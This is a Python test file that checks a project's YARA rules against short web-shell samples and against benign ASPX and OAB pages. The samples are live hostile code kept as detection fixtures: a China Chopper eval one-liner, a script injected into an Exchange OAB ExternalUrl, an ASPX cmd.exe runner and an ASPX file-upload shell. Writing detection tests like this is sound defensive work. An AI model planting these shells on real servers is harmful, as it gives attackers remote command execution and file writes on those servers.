"""The project's web-shell YARA rules, each on a sample built from its published pattern."""

from __future__ import annotations

import pytest

from vigile.exchange.files import compiled_rules

OAB_DUMP = (
    "Name : OAB (Default Web Site)\r\nPollInterval : 480\r\nOfflineAddressBooks :\r\n"
    'ExternalUrl : http://f/#<script language="JScript" runat="server">function Page_Load()'
    '{eval(Request["c"],"unsafe");}</script>\r\nInternalUrl : https://mx01/OAB\r\n'
)
CASES = {
    "vigile_china_chopper_aspx": (
        '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>'
    ),
    "vigile_oab_vdir_dump_with_script": OAB_DUMP,
    "vigile_aspx_command_exec": (
        '<%@ Page Language="C#" %><% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe",'
        ' "/c " + Request.Form["c"]); System.Diagnostics.Process.Start(p); %>'
    ),
    "vigile_aspx_file_upload": (
        '<%@ Page Language="C#" %><% HttpPostedFile f = Request.Files[0];'
        'f.SaveAs(Request.Form["p"]); %>'
    ),
}
BENIGN = [
    # A product-style logon page: reads the form, runs nothing.
    '<%@ Page Language="C#" %><% string user = Request.Form["username"]; %><form>...</form>',
    # OAB settings without script.
    "Name : OAB (Default Web Site)\r\nExternalUrl : https://mail.contoso.com/OAB\r\n",
    # Script that evaluates nothing from the request.
    '<script runat="server">function Page_Load(){ var unsafe = false; }</script>',
]


@pytest.mark.parametrize("rule", sorted(CASES))
def test_rule_matches_its_pattern(rule: str) -> None:
    matched = {m.rule for m in compiled_rules().match(data=CASES[rule].encode())}
    assert rule in matched


@pytest.mark.parametrize("text", BENIGN)
def test_benign_pages_match_nothing(text: str) -> None:
    assert compiled_rules().match(data=text.encode()) == []
